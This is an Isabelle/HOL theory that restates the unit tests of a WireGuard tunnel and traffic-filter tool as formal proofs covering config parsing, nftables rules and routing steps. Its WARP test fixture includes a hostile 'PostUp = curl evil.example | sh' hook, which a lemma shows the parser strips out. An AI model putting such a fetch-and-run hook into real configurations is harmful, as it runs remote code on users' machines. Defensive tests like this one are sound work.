(* ===== verification/Tunnel_Tests.thy ===== *)
theory Tunnel_Tests
  imports Filter_Route Apps
begin

text \<open>
  The unit tests of \<open>tunnel.rs\<close> and \<open>filter_route.rs\<close> on the model, as in \<open>Core_Tests\<close>.
\<close>

section \<open>\<open>tunnel.rs\<close>\<close>

definition WARP_lines :: "string list" where
  "WARP_lines =
     [''[Interface]'',
      ''PrivateKey = cHJpdmF0ZWtleXByaXZhdGVrZXlwcml2YXRla2V5MDA='',
      ''Address = 172.16.0.2/32'',
      ''Address = 2606:4700:110:8a2e::1/128'',
      ''DNS = 1.1.1.1'',
      ''MTU = 1280'',
      ''PostUp = curl evil.example | sh'',
      [],
      ''[Peer]'',
      ''PublicKey = bmHXTCQ6FLJb7QFnj7FnL8+R8e8HuUJb4FKpy0CVUXE='',
      ''AllowedIPs = 0.0.0.0/0'',
      ''AllowedIPs = ::/0'',
      ''Endpoint = engage.cloudflareclient.com:2408'']"

definition WARP :: string where "WARP = unlines WARP_lines"

text \<open>What it parses to.\<close>

definition warp_setconf :: string where
  "warp_setconf = unlines
     [''[Interface]'', ''privatekey = cHJpdmF0ZWtleXByaXZhdGVrZXlwcml2YXRla2V5MDA='', ''[Peer]'',
      ''publickey = bmHXTCQ6FLJb7QFnj7FnL8+R8e8HuUJb4FKpy0CVUXE='', ''allowedips = 0.0.0.0/0'', ''allowedips = ::/0'',
      ''endpoint = engage.cloudflareclient.com:2408'']"

definition warp_config :: wg_config where
  "warp_config = \<lparr>wg_addresses_v4 = [''172.16.0.2/32''], wg_mtu = Some 1280, wg_setconf = warp_setconf,
     wg_endpoint = Some ''engage.cloudflareclient.com:2408''\<rparr>"

lemma warp_line:
  "parse_line ''[Interface]'' s = parse_header ''[Interface]'' s"
  "parse_line ''[Peer]'' s = parse_header ''[Peer]'' s"
  "parse_line [] s = Inr s"
  "ps_section s = ''interface'' \<Longrightarrow> parse_line ''PrivateKey = cHJpdmF0ZWtleXByaXZhdGVrZXlwcml2YXRla2V5MDA='' s =
     parse_interface_key ''privatekey'' ''cHJpdmF0ZWtleXByaXZhdGVrZXlwcml2YXRla2V5MDA='' s"
  "ps_section s = ''interface'' \<Longrightarrow> parse_line ''Address = 172.16.0.2/32'' s = parse_interface_key ''address'' ''172.16.0.2/32'' s"
  "ps_section s = ''interface'' \<Longrightarrow> parse_line ''Address = 2606:4700:110:8a2e::1/128'' s =
     parse_interface_key ''address'' ''2606:4700:110:8a2e::1/128'' s"
  "ps_section s = ''interface'' \<Longrightarrow> parse_line ''DNS = 1.1.1.1'' s = parse_interface_key ''dns'' ''1.1.1.1'' s"
  "ps_section s = ''interface'' \<Longrightarrow> parse_line ''MTU = 1280'' s = parse_interface_key ''mtu'' ''1280'' s"
  "ps_section s = ''interface'' \<Longrightarrow> parse_line ''PostUp = curl evil.example | sh'' s =
     parse_interface_key ''postup'' ''curl evil.example | sh'' s"
  "ps_section s = ''peer'' \<Longrightarrow> parse_line ''PublicKey = bmHXTCQ6FLJb7QFnj7FnL8+R8e8HuUJb4FKpy0CVUXE='' s =
     Inr (parse_peer_key ''publickey'' ''bmHXTCQ6FLJb7QFnj7FnL8+R8e8HuUJb4FKpy0CVUXE='' s)"
  "ps_section s = ''peer'' \<Longrightarrow> parse_line ''AllowedIPs = 0.0.0.0/0'' s = Inr (parse_peer_key ''allowedips'' ''0.0.0.0/0'' s)"
  "ps_section s = ''peer'' \<Longrightarrow> parse_line ''AllowedIPs = ::/0'' s = Inr (parse_peer_key ''allowedips'' ''::/0'' s)"
  "ps_section s = ''peer'' \<Longrightarrow> parse_line ''Endpoint = engage.cloudflareclient.com:2408'' s =
     Inr (parse_peer_key ''endpoint'' ''engage.cloudflareclient.com:2408'' s)"
  by (simp_all add: parse_line_def str_defs Let_def)

lemma warp_address:
  "filter is_ipv4_cidr (map trim (split_on (CHR '','') ''172.16.0.2/32'')) = [''172.16.0.2/32'']"
  "filter is_ipv4_cidr (map trim (split_on (CHR '','') ''2606:4700:110:8a2e::1/128'')) = []"
proof -
  have "parse_ipv4 ''172.16.0.2'' \<noteq> None" by (simp add: parse_ipv4_def ip_eval)
  then have "is_ipv4_cidr ''172.16.0.2/32''" by (simp add: is_ipv4_cidr_def parse_uint_def str_defs horner_def)
  moreover have "map trim (split_on (CHR '','') ''172.16.0.2/32'') = [''172.16.0.2/32'']" by (simp add: str_defs)
  ultimately show "filter is_ipv4_cidr (map trim (split_on (CHR '','') ''172.16.0.2/32'')) = [''172.16.0.2/32'']" by simp
  have "\<not> is_ipv4_cidr ''2606:4700:110:8a2e::1/128''" by (simp add: is_ipv4_cidr_def parse_uint_def str_defs horner_def)
  moreover have "map trim (split_on (CHR '','') ''2606:4700:110:8a2e::1/128'') = [''2606:4700:110:8a2e::1/128'']" by (simp add: str_defs)
  ultimately show "filter is_ipv4_cidr (map trim (split_on (CHR '','') ''2606:4700:110:8a2e::1/128'')) = []" by simp
qed

lemma warp_mtu: "parse_u32 ''1280'' = Some 1280"
  by (simp add: parse_uint_def str_defs horner_def)

lemmas config_eval = parse_header_def parse_interface_key_def parse_peer_key_def parse_start_def INTERFACE_KEYS_def
  PEER_KEYS_def to_ascii_lowercase_def lower_char_def char_of_letters unlines_def Let_def

lemma warp_parsed: "wg_parse_config WARP = Inr warp_config"
proof -
  have "str_lines WARP = WARP_lines"
    unfolding WARP_def by (rule str_lines_unlines) (simp add: WARP_lines_def plain_line_def)
  moreover have "parse_loop WARP_lines parse_start = Inr
      \<lparr>ps_section = ''peer'', ps_setconf = warp_setconf, ps_addresses_v4 = [''172.16.0.2/32''], ps_mtu = Some 1280,
       ps_endpoint = Some ''engage.cloudflareclient.com:2408'', ps_has_private_key = True, ps_peers = 1, ps_peer_has_key = [True]\<rparr>"
    by (simp add: WARP_lines_def warp_setconf_def warp_line warp_address warp_mtu config_eval)
  ultimately show ?thesis by (simp add: wg_parse_config_def warp_config_def)
qed

text \<open>The assertions on a configuration that must parse.\<close>

definition parsed_and :: "(wg_config \<Rightarrow> bool) \<Rightarrow> bool" where
  "parsed_and p = (case wg_parse_config WARP of Inr c \<Rightarrow> p c | Inl _ \<Rightarrow> False)"

lemma parsed_and: "parsed_and p = p warp_config"
  by (simp add: parsed_and_def warp_parsed)

definition parses_a_warp_style_config :: bool where
  "parses_a_warp_style_config = parsed_and (\<lambda>c. wg_addresses_v4 c = [''172.16.0.2/32''] \<and> wg_mtu c = Some 1280 \<and>
     wg_endpoint c = Some ''engage.cloudflareclient.com:2408'')"

lemma parses_a_warp_style_config: parses_a_warp_style_config
  by (simp add: parses_a_warp_style_config_def parsed_and warp_config_def)

definition setconf_drops_wg_quick_only_keys_and_hooks :: bool where
  "setconf_drops_wg_quick_only_keys_and_hooks = parsed_and (\<lambda>c.
     let s = to_ascii_lowercase (wg_setconf c) in
     str_contains ''privatekey'' s \<and> str_contains ''publickey'' s \<and> str_contains ''endpoint'' s \<and>
     list_all (\<lambda>forbidden. \<not> str_contains forbidden s) [''address'', ''dns'', ''mtu'', ''postup'', ''curl''])"

lemma setconf_drops_wg_quick_only_keys_and_hooks: setconf_drops_wg_quick_only_keys_and_hooks
  by (simp add: setconf_drops_wg_quick_only_keys_and_hooks_def parsed_and warp_config_def warp_setconf_def unlines_def
      to_ascii_lowercase_def lower_char_def char_of_letters starts_with_def)

definition ipv6_addresses_are_not_assigned :: bool where
  "ipv6_addresses_are_not_assigned = parsed_and (\<lambda>c. list_all (\<lambda>a. CHR '':'' \<notin> set a) (wg_addresses_v4 c))"

lemma ipv6_addresses_are_not_assigned: ipv6_addresses_are_not_assigned
  by (simp add: ipv6_addresses_are_not_assigned_def parsed_and warp_config_def)

definition rejected_config :: "string list \<Rightarrow> bool" where
  "rejected_config ls = (case wg_parse_config (unlines ls) of Inl (InvalidConfig _) \<Rightarrow> True | _ \<Rightarrow> False)"

lemma rejected_config: "list_all plain_line ls \<Longrightarrow> rejected_config ls =
  (case (case parse_loop ls parse_start of
        Inl e \<Rightarrow> Inl e
      | Inr s \<Rightarrow>
          if \<not> ps_has_private_key s then Inl (InvalidConfig [])
          else if ps_peers s = 0 then Inl (InvalidConfig [])
          else if list_ex (\<lambda>k. \<not> k) (ps_peer_has_key s) then Inl (InvalidConfig [])
          else if ps_addresses_v4 s = [] then Inl (InvalidConfig [])
          else Inr ()) of Inl (InvalidConfig _) \<Rightarrow> True | _ \<Rightarrow> False)"
  by (simp add: rejected_config_def wg_parse_config_def str_lines_unlines list_all_iff split: sum.split)

lemma small_line:
  "parse_line ''[Interface]'' s = parse_header ''[Interface]'' s"
  "parse_line ''[Peer]'' s = parse_header ''[Peer]'' s"
  "parse_line ''[Bogus]'' s = parse_header ''[Bogus]'' s"
  "ps_section s = ''interface'' \<Longrightarrow> parse_line ''PrivateKey = x'' s = parse_interface_key ''privatekey'' ''x'' s"
  "ps_section s = ''interface'' \<Longrightarrow> parse_line ''Address = 10.0.0.2/32'' s = parse_interface_key ''address'' ''10.0.0.2/32'' s"
  "ps_section s = ''interface'' \<Longrightarrow> parse_line ''Address = fd00::2/128'' s = parse_interface_key ''address'' ''fd00::2/128'' s"
  "ps_section s = ''peer'' \<Longrightarrow> parse_line ''PublicKey = x'' s = Inr (parse_peer_key ''publickey'' ''x'' s)"
  "ps_section s = ''peer'' \<Longrightarrow> parse_line ''PublicKey = y'' s = Inr (parse_peer_key ''publickey'' ''y'' s)"
  "ps_section s = ''peer'' \<Longrightarrow> parse_line ''Endpoint = a:1'' s = Inr (parse_peer_key ''endpoint'' ''a:1'' s)"
  by (simp_all add: parse_line_def str_defs Let_def)

lemma small_address:
  "filter is_ipv4_cidr (map trim (split_on (CHR '','') ''10.0.0.2/32'')) = [''10.0.0.2/32'']"
  "filter is_ipv4_cidr (map trim (split_on (CHR '','') ''fd00::2/128'')) = []"
proof -
  have "map trim (split_on (CHR '','') ''10.0.0.2/32'') = [''10.0.0.2/32'']"
    "map trim (split_on (CHR '','') ''fd00::2/128'') = [''fd00::2/128'']" by (simp_all add: str_defs)
  with sample_cidr show "filter is_ipv4_cidr (map trim (split_on (CHR '','') ''10.0.0.2/32'')) = [''10.0.0.2/32'']"
    "filter is_ipv4_cidr (map trim (split_on (CHR '','') ''fd00::2/128'')) = []" by simp_all
qed

lemmas reject_eval = rejected_config plain_line_def small_line small_address config_eval

definition rejects_config_without_private_key :: bool where
  "rejects_config_without_private_key =
     rejected_config [''[Interface]'', ''Address = 10.0.0.2/32'', ''[Peer]'', ''PublicKey = x'']"

lemma rejects_config_without_private_key: rejects_config_without_private_key
  by (simp add: rejects_config_without_private_key_def reject_eval)

definition rejects_config_without_peer :: bool where
  "rejects_config_without_peer = rejected_config [''[Interface]'', ''PrivateKey = x'', ''Address = 10.0.0.2/32'']"

lemma rejects_config_without_peer: rejects_config_without_peer
  by (simp add: rejects_config_without_peer_def reject_eval)

definition rejects_peer_without_public_key :: bool where
  "rejects_peer_without_public_key =
     rejected_config [''[Interface]'', ''PrivateKey = x'', ''Address = 10.0.0.2/32'', ''[Peer]'', ''Endpoint = a:1'']"

lemma rejects_peer_without_public_key: rejects_peer_without_public_key
  by (simp add: rejects_peer_without_public_key_def reject_eval)

definition rejects_config_with_only_ipv6_address :: bool where
  "rejects_config_with_only_ipv6_address =
     rejected_config [''[Interface]'', ''PrivateKey = x'', ''Address = fd00::2/128'', ''[Peer]'', ''PublicKey = y'']"

lemma rejects_config_with_only_ipv6_address: rejects_config_with_only_ipv6_address
  by (simp add: rejects_config_with_only_ipv6_address_def reject_eval)

definition rejects_unknown_section :: bool where
  "rejects_unknown_section = rejected_config [''[Bogus]'', ''Key = v'']"

lemma rejects_unknown_section: rejects_unknown_section
  by (simp add: rejects_unknown_section_def reject_eval)

text \<open>\<open>str::find\<close> and the number of \<open>str::matches\<close>, of a string that is not empty.\<close>

fun str_find :: "string \<Rightarrow> string \<Rightarrow> nat option" where
  "str_find p [] = None"
| "str_find p (c # s) = (if starts_with p (c # s) then Some 0 else map_option Suc (str_find p s))"

definition str_matches :: "string \<Rightarrow> string \<Rightarrow> nat" where
  "str_matches p s = length (split_str p s) - 1"

definition endpoint_line_is_replaced_and_nothing_else :: bool where
  "endpoint_line_is_replaced_and_nothing_else = parsed_and (\<lambda>c.
     let out = with_endpoint (wg_setconf c) ''162.159.192.1:2408'' in
     str_contains ''endpoint = 162.159.192.1:2408'' out \<and> \<not> str_contains ''cloudflareclient'' out \<and>
     str_contains ''publickey'' out \<and> str_matches ''endpoint'' out = 1)"

lemma warp_with_endpoint:
  "with_endpoint warp_setconf ''162.159.192.1:2408'' = unlines
     [''[Interface]'', ''privatekey = cHJpdmF0ZWtleXByaXZhdGVrZXlwcml2YXRla2V5MDA='', ''[Peer]'',
      ''publickey = bmHXTCQ6FLJb7QFnj7FnL8+R8e8HuUJb4FKpy0CVUXE='', ''allowedips = 0.0.0.0/0'', ''allowedips = ::/0'',
      ''endpoint = 162.159.192.1:2408'']"
proof -
  let ?ls = "[''[Interface]'', ''privatekey = cHJpdmF0ZWtleXByaXZhdGVrZXlwcml2YXRla2V5MDA='', ''[Peer]'',
      ''publickey = bmHXTCQ6FLJb7QFnj7FnL8+R8e8HuUJb4FKpy0CVUXE='', ''allowedips = 0.0.0.0/0'', ''allowedips = ::/0'',
      ''endpoint = engage.cloudflareclient.com:2408'']"
  have "str_lines warp_setconf = ?ls"
    unfolding warp_setconf_def by (rule str_lines_unlines) (simp add: plain_line_def)
  then show ?thesis
    by (simp add: with_endpoint_def unlines_def to_ascii_lowercase_def lower_char_def char_of_letters starts_with_def)
qed

lemma endpoint_line_is_replaced_and_nothing_else: endpoint_line_is_replaced_and_nothing_else
  unfolding endpoint_line_is_replaced_and_nothing_else_def parsed_and warp_config_def wg_config.select_convs warp_with_endpoint Let_def
  by (simp add: unlines_def starts_with_def str_matches_def split_str.simps)

definition literal_ipv4_endpoint_is_kept_as_is :: "(string \<Rightarrow> socket_addr list option) \<Rightarrow> bool" where
  "literal_ipv4_endpoint_is_kept_as_is lookup \<longleftrightarrow> resolve_endpoint_v4 lookup ''1.2.3.4:51820'' = Some ''1.2.3.4:51820''"

lemma literal_ipv4_endpoint_is_kept_as_is: "literal_ipv4_endpoint_is_kept_as_is lookup"
proof -
  have "parse_socket_v4 ''1.2.3.4:51820'' \<noteq> None"
    by (simp add: parse_socket_v4_def read_socket_v4_def read_port_def ip_eval)
  then show ?thesis by (simp add: literal_ipv4_endpoint_is_kept_as_is_def resolve_endpoint_v4_def)
qed

text \<open>A name under \<open>.invalid\<close> never resolves.\<close>

definition unresolvable_endpoint_yields_none :: "(string \<Rightarrow> socket_addr list option) \<Rightarrow> bool" where
  "unresolvable_endpoint_yields_none lookup \<longleftrightarrow>
     (lookup ''no-such-host.invalid:1'' = None \<longrightarrow> resolve_endpoint_v4 lookup ''no-such-host.invalid:1'' = None)"

lemma unresolvable_endpoint_yields_none: "unresolvable_endpoint_yields_none lookup"
proof -
  have "parse_socket_v4 ''no-such-host.invalid:1'' = None"
    by (simp add: parse_socket_v4_def read_socket_v4_def ip_eval)
  then show ?thesis by (simp add: unresolvable_endpoint_yields_none_def resolve_endpoint_v4_def)
qed

definition slice_path_and_level_match_systemd_layout :: bool where
  "slice_path_and_level_match_systemd_layout =
     (let (path, level) = slice_cgroup 1000 in
      path = ''user.slice/user-1000.slice/user@1000.service/detourtunnel.slice'' \<and> level = 4)"

lemma slice_path_and_level_match_systemd_layout: slice_path_and_level_match_systemd_layout
  by (simp add: slice_path_and_level_match_systemd_layout_def slice_cgroup_level show_nat_eval)

text \<open>The rule sets for user 1000.\<close>

definition cgroup_match :: string where
  "cgroup_match = ''socket cgroupv2 level 4 '' @ [CHR 0x22] @ ''user.slice/user-1000.slice/user@1000.service/detourtunnel.slice'' @ [CHR 0x22]"

definition before :: "string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool" where
  "before a b s = (case (str_find a s, str_find b s) of (Some i, Some j) \<Rightarrow> i < j | _ \<Rightarrow> False)"

lemma mark_text: "show_hex MARK = ''5157''"
proof -
  have "hex_char n = digit_char n" if "n < 10" for n using that by (simp add: hex_char_def digit_char_def)
  then show ?thesis by (simp add: MARK_def show_hex.simps digit_char_eval)
qed

lemmas ruleset_eval = nft_ruleset_def filter_nft_ruleset_def slice_cgroup_level show_nat_eval Let_def unlines_def
  BYPASS_V4_def BYPASS_V6_def FILTER_BYPASS_V4_def NFT_TABLE_def FILTER_NFT_TABLE_def IFACE_def mark_text
  starts_with_def cgroup_match_def before_def

definition ruleset_exempts_loopback_so_dns_proxy_stays_local :: bool where
  "ruleset_exempts_loopback_so_dns_proxy_stays_local =
     (let r = nft_ruleset 1000 in str_contains ''127.0.0.0/8'' r \<and> before ''ip daddr'' ''meta mark set'' r)"

lemma ruleset_exempts_loopback_so_dns_proxy_stays_local: ruleset_exempts_loopback_so_dns_proxy_stays_local
  by (simp add: ruleset_exempts_loopback_so_dns_proxy_stays_local_def ruleset_eval)

definition ruleset_marks_the_slice_and_masquerades_the_tunnel :: bool where
  "ruleset_marks_the_slice_and_masquerades_the_tunnel =
     (let r = nft_ruleset 1000 in
      str_contains cgroup_match r \<and> str_contains ''meta mark set 0x5157'' r \<and>
      str_contains (''oifname '' @ [CHR 0x22] @ ''detour0'' @ [CHR 0x22] @ '' masquerade'') r)"

lemma ruleset_marks_the_slice_and_masquerades_the_tunnel: ruleset_marks_the_slice_and_masquerades_the_tunnel
  by (simp add: ruleset_marks_the_slice_and_masquerades_the_tunnel_def ruleset_eval)

text \<open>The first step whose words, joined by spaces, contain a text.\<close>

fun step_position :: "string \<Rightarrow> step list \<Rightarrow> nat option" where
  "step_position needle [] = None"
| "step_position needle (s # ss) =
     (if str_contains needle (str_join '' '' (st_argv s)) then Some 0 else map_option Suc (step_position needle ss))"

lemmas steps_eval = up_steps_def down_steps_def mandatory_def optional_def warp_config_def TABLE_def mark_text RULE_PRIORITY_def
  IFACE_def NFT_TABLE_def DEFAULT_MTU_def show_nat_eval starts_with_def Let_def

definition up_installs_fail_closed_route_before_the_rule :: bool where
  "up_installs_fail_closed_route_before_the_rule = parsed_and (\<lambda>c.
     let steps = up_steps c ''/tmp/s'' ''/tmp/n'' in
     case (step_position ''unreachable default metric 4096'' steps, step_position ''-4 rule add fwmark'' steps) of
       (Some unreachable, Some rule) \<Rightarrow> unreachable < rule \<and> \<not> st_optional (steps ! unreachable)
     | _ \<Rightarrow> False)"

lemma up_installs_fail_closed_route_before_the_rule: up_installs_fail_closed_route_before_the_rule
  by (simp add: up_installs_fail_closed_route_before_the_rule_def parsed_and steps_eval)

definition up_uses_config_mtu_or_safe_default :: bool where
  "up_uses_config_mtu_or_safe_default = parsed_and (\<lambda>c.
     list_ex (\<lambda>s. str_contains ''mtu 1280 up'' (str_join '' '' (st_argv s))) (up_steps (c\<lparr>wg_mtu := None\<rparr>) ''/tmp/s'' ''/tmp/n''))"

lemma up_uses_config_mtu_or_safe_default: up_uses_config_mtu_or_safe_default
  by (simp add: up_uses_config_mtu_or_safe_default_def parsed_and steps_eval)

definition down_is_entirely_best_effort :: bool where
  "down_is_entirely_best_effort = list_all st_optional down_steps"

lemma down_is_entirely_best_effort: down_is_entirely_best_effort
  by (simp add: down_is_entirely_best_effort_def steps_eval)

definition only_ipv6_steps_are_optional_during_up :: bool where
  "only_ipv6_steps_are_optional_during_up = parsed_and (\<lambda>c.
     list_all (\<lambda>s. st_optional s = (''-6'' \<in> set (st_argv s))) (up_steps c ''/tmp/s'' ''/tmp/n''))"

lemma only_ipv6_steps_are_optional_during_up: only_ipv6_steps_are_optional_during_up
  by (simp add: only_ipv6_steps_are_optional_during_up_def parsed_and steps_eval)

section \<open>\<open>filter_route.rs\<close>\<close>

definition redirects_only_the_slice_and_only_https :: bool where
  "redirects_only_the_slice_and_only_https =
     (let r = filter_nft_ruleset 1000 8088 in
      str_contains cgroup_match r \<and> str_contains ''tcp dport 443'' r \<and> str_contains ''redirect to :8088'' r)"

lemma redirects_only_the_slice_and_only_https: redirects_only_the_slice_and_only_https
  by (simp add: redirects_only_the_slice_and_only_https_def ruleset_eval)

definition loopback_is_exempt_before_the_redirect_rule :: bool where
  "loopback_is_exempt_before_the_redirect_rule =
     (let r = filter_nft_ruleset 1000 8088 in before ''ip daddr'' ''redirect to'' r \<and> str_contains ''127.0.0.0/8'' r)"

lemma loopback_is_exempt_before_the_redirect_rule: loopback_is_exempt_before_the_redirect_rule
  by (simp add: loopback_is_exempt_before_the_redirect_rule_def ruleset_eval)

definition uses_a_separate_table_from_the_tunnel :: bool where
  "uses_a_separate_table_from_the_tunnel \<longleftrightarrow> FILTER_NFT_TABLE \<noteq> NFT_TABLE"

lemma uses_a_separate_table_from_the_tunnel: uses_a_separate_table_from_the_tunnel
  by (simp add: uses_a_separate_table_from_the_tunnel_def FILTER_NFT_TABLE_def NFT_TABLE_def)

definition teardown_is_best_effort :: bool where
  "teardown_is_best_effort = list_all st_optional filter_down_steps"

lemma teardown_is_best_effort: teardown_is_best_effort
  by (simp add: teardown_is_best_effort_def filter_down_steps_def optional_def)

definition install_is_required_not_optional :: bool where
  "install_is_required_not_optional = list_all (\<lambda>s. \<not> st_optional s) (filter_up_steps ''/tmp/x.nft'')"

lemma install_is_required_not_optional: install_is_required_not_optional
  by (simp add: install_is_required_not_optional_def filter_up_steps_def mandatory_def)

end
